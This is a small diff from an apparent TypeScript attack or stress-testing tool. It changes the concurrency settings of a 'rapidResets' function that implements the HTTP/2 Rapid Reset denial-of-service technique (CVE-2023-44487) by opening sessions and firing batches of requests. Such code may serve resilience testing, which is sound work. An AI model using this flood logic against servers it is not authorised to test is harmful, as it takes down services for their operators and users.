@@ -12,7 +12,7 @@ export const unreadStreams: Attack = async (target) => {
 
 /** Requests that are taken back as soon as they are made (CVE-2023-44487). */
 export const rapidResets: Attack = async (target) => {
-  await lanes(2, 200, async () => {
+  await lanes(1, 300, async () => {
     const session = await dialHttp2(target);
     for (let round = 0; round < 20 && !session.closed && !session.destroyed; round++) {
       const streams = Array.from({ length: 50 }, () => ignore(session.request({ ':path': LARGE_ANSWER })));
